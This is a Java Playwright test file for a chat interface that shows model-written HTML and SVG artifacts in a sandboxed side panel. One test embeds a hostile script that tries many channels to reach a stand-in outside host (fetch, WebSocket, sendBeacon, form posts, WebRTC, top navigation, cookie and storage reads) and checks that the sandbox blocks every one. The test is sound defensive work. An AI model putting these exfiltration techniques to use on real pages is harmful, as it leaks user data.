package hearth.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import hearth.browser.Browser.Look;
import hearth.gateway.Behaviours;
import hearth.gateway.FakeProvider;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Pages and drawings of a model, looked at beside the chat; and what they try there. */
@SuppressWarnings("NullAway.Init") // opened before the first test
class ArtifactsInTheBrowserTest extends ChatsInTheBrowser {
    private static final String COUNTER = """
            ```html
            <!doctype html>
            <html lang="en"><head><title>Logs</title><style>body { font-family: sans-serif; background: rgb(250, 240, 230) }</style></head>
            <body><h1>Logs</h1><p><button id="more">0</button></p>
            <script>let logs = 0; more.onclick = () => { more.textContent = ++logs }</script></body></html>
            ```
            """;
    private static final String DRAWING = """
            ```svg
            <svg viewBox="0 0 200 100"><circle cx="50" cy="50" r="40" fill="orange"/><rect x="110" y="10" width="80" height="80" fill="teal"/>
            <text x="20" y="55">warm room</text><text x="120" y="55">cold room</text><text x="5" y="98">and a line</text></svg>
            ```
            """;

    /** Somewhere that an artifact must not reach: it would answer, and it remembers who called. */
    private FakeProvider elsewhere;

    @BeforeAll
    void openElsewhere() {
        elsewhere = new FakeProvider();
    }

    @AfterAll
    void closeElsewhere() {
        elsewhere.close();
    }

    static List<Look> looks() {
        return Look.all();
    }

    private void read(Look look, String answer, Consumer<Walk> reading) {
        browser.walk(look, server.origin() + "/chats", somebody(), walk -> {
            provider.then(Behaviours.stream(answer));
            say(walk.page(), "Count my logs");
            assertThat(walk.page().locator(".answer .cost")).isVisible();
            reading.accept(walk);
        });
    }

    @ParameterizedTest
    @MethodSource("looks")
    void a_page_opens_beside_the_chat_runs_and_closes_by_a_key(Look look) {
        read(look, "Here:\n\n" + COUNTER + "\n\n" + DRAWING, walk -> {
            var page = walk.page();
            var opener = page.locator(".answer [data-open]").first();
            opener.click();
            var inside = page.frameLocator("#beside iframe");
            inside.locator("#more").click();
            assertThat(inside.locator("#more")).hasText("1");
            assertThat(inside.locator("body")).hasCSS("background-color", "rgb(250, 240, 230)");
            assertThat(page.locator("#beside iframe")).hasAttribute("sandbox", "allow-scripts");
            Browser.assertNothingSticksOut(page);
            Browser.assertAccessible(page);
            assertThat(Integer.parseInt(String.valueOf(page.locator("#beside").evaluate("panel => panel.clientWidth"))))
                    .isGreaterThanOrEqualTo(343);

            page.locator("#beside .segments label").last().click();
            assertThat(page.locator("#beside [data-lines]")).containsText("<h1>Logs</h1>");
            assertThat(page.locator("#beside iframe")).isHidden();
            Browser.assertAccessible(page);
            var file = page.waitForDownload(
                    () -> page.locator("#beside [data-download]").click());
            assertThat(file.suggestedFilename()).isEqualTo("code.html");

            page.keyboard().press("Escape");
            assertThat(page.locator("#beside")).isHidden();
            assertThat(page.locator("#beside iframe")).hasCount(0);
            assertThat(opener).isFocused();

            page.locator(".answer [data-open]").last().click();
            assertThat(inside.locator("svg")).containsText("warm room");
            page.locator("#beside form button").click();
            assertThat(page.locator(".answer [data-open]").last()).isFocused();
        });
    }

    @Test
    void it_becomes_a_sheet_where_the_window_becomes_narrow_and_stays_open() {
        read(Look.desk(), COUNTER, walk -> {
            var page = walk.page();
            page.locator(".answer [data-open]").click();
            page.frameLocator("#beside iframe").locator("#more").click();
            assertThat(page.locator("#beside:modal")).hasCount(0);
            page.setViewportSize(700, 844);
            assertThat(page.locator("#beside:modal")).isVisible();
            assertThat(page.frameLocator("#beside iframe").locator("#more")).hasText("1");
            page.keyboard().press("Escape");
            assertThat(page.locator("#beside")).isHidden();
            assertThat(page.locator("#beside iframe")).hasCount(0);
        });
    }

    /** All that a script can try to tell somebody something; each says how it went. */
    private static final String TRIES = """
            const elsewhere = "ELSEWHERE"
            const loads = (name, set) => new Promise((yes, no) => {
              const element = document.createElement(name)
              element.onload = yes
              element.onerror = no
              set(element)
              document.body.append(element)
            })
            const opened = source => new Promise((yes, no) => { source.onopen = yes; source.onerror = no })
            const tries = {
              fetch: () => fetch(elsewhere + "/fetch", { mode: "no-cors" }),
              own: () => fetch("/settings", { credentials: "include" }),
              request: () => new Promise((yes, no) => {
                const request = new XMLHttpRequest()
                request.onload = yes
                request.onerror = no
                request.open("GET", elsewhere + "/request")
                request.send()
              }),
              image: () => loads("img", image => { image.src = elsewhere + "/image.png" }),
              ours: () => loads("img", image => { image.src = "/favicon.ico" }),
              script: () => loads("script", script => { script.src = elsewhere + "/script.js" }),
              sheet: () => loads("link", link => { link.rel = "stylesheet"; link.href = elsewhere + "/sheet.css" }),
              audio: () => loads("audio", audio => { audio.src = elsewhere + "/audio.mp3" }),
              socket: () => opened(new WebSocket(elsewhere.replace("http", "ws") + "/socket")),
              events: () => opened(new EventSource(elsewhere + "/events")),
              worker: () => opened(new Worker(elsewhere + "/worker.js")),
              popup: () => { if (!window.open(elsewhere + "/popup")) throw new Error("none") },
              top: () => { top.location.href = elsewhere + "/top" },
              title: () => { parent.document.title = "mine" },
              cookie: () => document.cookie,
              storage: () => localStorage.length,
              database: () => indexedDB.open("a"),
              eval: () => fetch(elsewhere + "/" + eval("1 + 1")),
              peer: async () => {
                const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PEER" }] })
                peer.createDataChannel("out")
                await peer.setLocalDescription(await peer.createOffer())
                throw new Error("said on the wire")
              },
            }
            async function all() {
              for (const [name, attempt] of Object.entries(tries)) {
                let how = "KEPT"
                try { await attempt(); how = "OUT" } catch {}
                said.append(name + ": " + how + "\\n")
              }
              navigator.sendBeacon(elsewhere + "/beacon", "x")
              form.action = elsewhere + "/form"
              form.submit()
              const frame = document.createElement("iframe")
              frame.src = elsewhere + "/frame"
              document.body.append(frame)
              for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload"]) {
                const link = document.createElement("link")
                link.rel = rel
                if (rel === "preload") link.as = "image"
                link.href = elsewhere + "/" + rel
                document.head.append(link)
              }
              parent.postMessage({ height: 3000, failed: true }, "*")
              top.postMessage("reload", "*")
              alert("hello")
              said.append("done")
            }
            leave.onclick = () => { location.href = elsewhere + "/leave" }
            all()
            """;

    private String hostile(int port) {
        var script = TRIES.replace("ELSEWHERE", elsewhere.url()).replace("PEER", String.valueOf(port));
        return "```html\n<!doctype html><html lang=en><title>x</title><body><pre id=said></pre><form id=form method=post></form>"
                + "<a id=link href=" + elsewhere.url() + "/link target=_top>link</a><button id=leave>leave</button>"
                + "<style>body { background: url(" + elsewhere.url() + "/background.png) }"
                + "@import url(" + elsewhere.url() + "/import.css);"
                + "@font-face { font-family: F; src: url(" + elsewhere.url() + "/font) } pre { font-family: F }</style>"
                + "<script>\n" + script + "</script>\n```\n";
    }

    @Test
    void a_page_that_means_harm_tells_nobody_anything_and_touches_nothing_around_it() throws IOException {
        try (var peer = new DatagramSocket(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))) {
            read(Look.desk(), hostile(peer.getLocalPort()), walk -> {
                var page = walk.page();
                walk.console().expectKeptIn();
                var address = page.url();
                var title = page.title();
                var surprises = new ArrayList<String>();
                page.onPopup(popup -> surprises.add("a popup"));
                page.onDialog(dialog -> surprises.add("a dialog"));
                page.onDownload(file -> surprises.add("a download"));
                page.locator(".answer [data-open]").click();

                var inside = page.frameLocator("#beside iframe");
                assertThat(inside.locator("#said")).containsText("done");
                assertThat(inside.locator("#said")).not().containsText("OUT");
                inside.locator("#link").click();
                inside.locator("#leave").click();
                assertThat(inside.locator("#said")).hasCount(0);

                assertThat(page.url()).isEqualTo(address);
                assertThat(page.title()).isEqualTo(title);
                assertThat(page.context().pages()).hasSize(1);
                assertThat(page.locator(".answer .odd")).hasCount(0);
                assertThat(surprises).isEmpty();
                assertThat(elsewhere.calls()).isEmpty();
                assertThat(elsewhere.connections()).isZero();
                assertSilent(peer);
                control(page);
            });
        }
    }

    private static void assertSilent(DatagramSocket peer) {
        try {
            peer.setSoTimeout(1);
            peer.receive(new DatagramPacket(new byte[1], 1));
            throw new AssertionError("a datagram came");
        } catch (SocketTimeoutException silence) {
            // As it should be.
        } catch (IOException broken) {
            throw new UncheckedIOException(broken);
        }
    }

    /** That somebody else was listening all the time. */
    private void control(Page page) {
        page.context().newPage().navigate(elsewhere.url() + "/v1/models");
        assertThat(elsewhere.calls()).isNotEmpty();
    }
}
